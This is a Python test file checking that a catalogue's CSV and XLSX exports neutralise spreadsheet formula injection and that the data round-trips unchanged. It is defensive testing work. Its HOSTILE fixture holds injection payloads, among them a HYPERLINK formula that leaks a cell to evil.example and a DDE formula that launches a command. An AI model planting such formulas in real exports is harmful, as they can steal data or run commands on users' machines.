# SPDX-License-Identifier: Apache-2.0
"""Exports never carry a live spreadsheet formula (CSV injection): a cell that starts like one
is text in XLSX and starts with an apostrophe in CSV; importing the export gives the same
values back."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from liaison.catalogue import exchange
from liaison.catalogue.exchange import ROW_FIELDS, FileFormat

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&B2,"Open")',
    "provider": "=cmd|' /C calc'!A0",
    "description": "-2+3",
    "location": "@SUM(1)",
}


def _row() -> dict[str, str]:
    row = dict.fromkeys(ROW_FIELDS, "")
    row.update(item_code="ATTACK-F", area="cyber-defence", kind="course", item_marking="PUBLIC")
    row.update(HOSTILE)
    return row


def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe():
    text = exchange.write_rows([_row()], FileFormat.CSV, "PUBLIC").decode()
    assert "'=HYPERLINK(" in text
    assert "'=cmd|" in text
    assert "'-2+3" in text
    assert "'@SUM(1)" in text


def test_xlsx_cells_that_look_like_formulas_are_text():
    data = exchange.write_rows([_row()], FileFormat.XLSX, "PUBLIC")
    sheet = load_workbook(io.BytesIO(data))["catalogue"]
    cells = {sheet.cell(1, c).value: sheet.cell(2, c) for c in range(1, sheet.max_column + 1)}
    for field, value in HOSTILE.items():
        assert cells[field].data_type == "s", field
        assert cells[field].value == value


@pytest.mark.parametrize("fmt", [FileFormat.CSV, FileFormat.XLSX, FileFormat.JSON])
def test_an_export_imports_back_unchanged(fmt):
    data = exchange.write_rows([_row()], fmt, "PUBLIC")
    (back,) = exchange.read_rows(data, fmt)
    for field, value in HOSTILE.items():
        assert back[field] == value, (fmt, field)
